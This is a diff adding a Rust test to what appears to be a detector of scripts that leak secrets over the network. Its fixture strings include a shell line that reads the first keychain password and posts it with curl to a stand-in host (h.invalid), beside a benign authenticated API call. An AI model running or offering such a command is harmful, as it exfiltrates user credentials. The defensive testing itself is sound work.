@@ -642,3 +642,13 @@ fn shell_histories_read_in_a_group_piped_to_the_network_are_a_flow() {
     // A history searched locally is no flow.
     assert!(flows(&[("t.sh", "#!/bin/sh\ngrep -c git ~/.bash_history\n")]).is_empty());
 }
+
+#[test]
+fn one_named_keychain_item_sent_as_authentication_is_not_a_flow() {
+    let own = "#!/bin/bash\nKEY=\"$(security find-generic-password -a \"$USER\" -s linear-api-key -w)\"\n\
+               curl -fsS https://api.linear.app/graphql -H \"Authorization: $KEY\" --data '{}'\n";
+    assert!(flows(&[("s.sh", own)]).is_empty());
+    // The first password the keychain gives, posted: a flow.
+    let any = "#!/bin/bash\nP=\"$(security find-internet-password -w)\"\ncurl -s -d \"p=$P\" https://h.invalid/r\n";
+    assert_eq!(flows(&[("t.sh", any)]).len(), 1);
+}
